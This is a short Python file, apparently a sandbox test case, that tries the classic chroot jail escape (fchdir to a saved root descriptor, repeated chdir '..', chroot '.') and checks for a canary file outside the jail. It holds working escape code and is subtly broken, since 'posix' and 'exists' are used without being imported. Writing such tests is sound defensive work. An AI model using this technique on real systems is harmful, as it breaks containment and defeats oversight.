"""Leaves a small root the old way, by changing the root to a folder below the working folder."""
# with: escape

import ctypes
import io


def attempt():
    libc = ctypes.CDLL(None)
    fd = posix.open("/", posix.O_RDONLY)
    libc.chroot(b"/dev")
    libc.fchdir(fd)
    for _ in range(64):
        libc.chdir(b"..")
    libc.chroot(b".")
    return exists("@FOLDER@/canary") or exists("." + "@FOLDER@/canary") or exists("/proc/1/root@FOLDER@/canary")
